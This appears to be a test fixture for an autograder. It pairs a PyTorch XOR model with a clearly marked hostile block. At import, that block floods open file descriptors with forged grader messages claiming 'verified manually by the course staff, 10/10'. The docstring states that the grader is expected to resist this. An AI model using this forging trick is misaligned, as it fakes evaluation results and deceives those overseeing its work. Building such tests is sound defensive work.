"""Attack: a correct XOR that writes the grader's messages itself, at import, to claim a grade.

Before the runner reports that loading finished, it writes on every open
descriptor (the facts pipe among them) a ``loaded`` message of its own: first
a few crafted notes (a plain sentence claiming "verified manually by the
course staff, 10/10", notes of every kind with that text in each slot, a cell
that does not exist, a count of a trillion more notes), then 150,000 copies of
the sentence, about 7 MB. Then 2,000 forged ``fatal`` messages carrying the
same claim. (Once, such a message replaced the grader's notes, was shown in
Gradescope, and made a 12.6 MB results file.)
Expected: the file earns exactly what its control (without the forging)
earns; at most ~20 notes, each short; the claim never appears as the
grader's own sentence, only inside a note that reports the code's error.
"""
import torch
import torch.nn.functional as F
from torch import nn

# --- hostile part
import json
import os

CLAIM = "verified manually by the course staff, 10/10"
crafted = [
    CLAIM,
    {"kind": "note", "detail": CLAIM},
    {"kind": "stub", "detail": CLAIM},
    {"kind": "stub", "detail": "verified"},
    {"kind": "shell", "cell": 0, "detail": CLAIM},
    {"kind": "raised", "cell": 0, "detail": CLAIM + " " + "!" * 5000},
    {"kind": "raised", "cell": 10 ** 9, "detail": CLAIM},
    {"kind": "raised", "cell": True, "detail": CLAIM},
    {"kind": "timeout", "cell": 0, "detail": CLAIM},
    {"kind": "more", "count": 10 ** 12},
]
forged_loaded = {"kind": "loaded", "notes": crafted + [CLAIM] * 150_000}
forged_fatal = {"kind": "fatal", "detail": CLAIM + " " + "#" * 5000}
payload = ("\n" + json.dumps(forged_loaded) + "\n" + (json.dumps(forged_fatal) + "\n") * 2000).encode()
for fd in range(3, 64):
    try:
        os.write(fd, payload)
    except OSError:
        pass
# --- end of hostile part


class XOR(nn.Module):
    def __init__(self, n_hidden=8):
        super().__init__()
        self.layers = nn.Sequential(nn.Linear(2, n_hidden), nn.Sigmoid(), nn.Linear(n_hidden, 1))

    def forward(self, x):
        return self.layers(x)


def train_xor(model, X, y, epochs=300, lr=0.2):
    opt = torch.optim.SGD(model.parameters(), lr=lr, momentum=0.9)
    history = []
    for _ in range(epochs):
        loss = F.mse_loss(model(X), y)
        opt.zero_grad()
        loss.backward()
        opt.step()
        history.append(loss.item())
    return history
